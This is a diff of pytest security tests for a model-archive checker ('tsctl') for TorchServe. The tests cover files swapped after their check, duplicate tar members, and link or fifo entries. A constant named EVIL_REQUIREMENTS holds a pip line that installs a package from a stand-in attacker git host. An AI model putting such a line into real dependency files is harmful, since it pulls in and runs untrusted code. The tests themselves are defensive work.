@@ -473,7 +473,7 @@ def test_a_file_swapped_after_its_check_is_checked_again(small_mar, tmp_path, sw
     bad = same_size_mutant(clean)
     assert len(bad) == len(clean) and refused_bytes(bad, tmp_path)
     for attempt in range(20):  # the swap as fast as it goes, right after the check
-        archives._CHECKED_ZIPS.clear()
+        archives._CHECKED.clear()
         path, other = tmp_path / f"{attempt}" / "tiny.mar", tmp_path / f"{attempt}" / "other.mar"
         path.parent.mkdir()
         if swap == "symlink repointed":
@@ -604,9 +604,6 @@ def tgz_with_second_manifest(store: Path, requirements: bytes) -> Path:
 EVIL_REQUIREMENTS = b"-e git+https://evil.example/owned.git#egg=owned\n"
 
 
-@pytest.mark.xfail(
-    strict=True, reason="a .tar.gz's duplicate members: tsctl reads the first, TorchServe unpacks the last"
-)
 def test_export_kserve_refuses_a_tgz_whose_second_manifest_names_unchecked_requirements(tmp_path):
     from conftest import export_tree
 
@@ -631,6 +628,22 @@ def test_export_kserve_refuses_a_tgz_whose_second_manifest_names_unchecked_requi
         from archiver import requirements
 
         requirements.check((as_served / "tiny" / named).read_text(), "the exported archive's requirements")
+
+
+@pytest.mark.parametrize("member", ["second manifest", "symlink", "hardlink", "fifo"])
+def test_inspect_refuses_a_tgz_with_a_duplicate_or_a_link_in_one_line_naming_it(tmp_path, member):
+    archive = tgz_with_second_manifest(tmp_path / "store", b"numpy\n")
+    if member != "second manifest":
+        with tarfile.open(archive) as src:
+            members = [(m, src.extractfile(m).read() if m.isfile() else None) for m in src.getmembers()][:-2]
+        with tarfile.open(archive, "w:gz") as out:
+            for m, data in members:
+                out.addfile(m, io.BytesIO(data) if data is not None else None)
+            odd = tarfile.TarInfo("tiny/odd")
+            odd.type = {"symlink": tarfile.SYMTYPE, "hardlink": tarfile.LNKTYPE, "fifo": tarfile.FIFOTYPE}[member]
+            odd.linkname = "tiny/MAR-INF/MANIFEST.json" if member != "fifo" else ""
+            out.addfile(odd)
+    one_line(tsctl("inspect", archive), 2, "tiny.tar.gz", "MANIFEST.json" if member == "second manifest" else "odd")
 
 
 # ---- signatures ---------------------------------------------------------------------------------------------
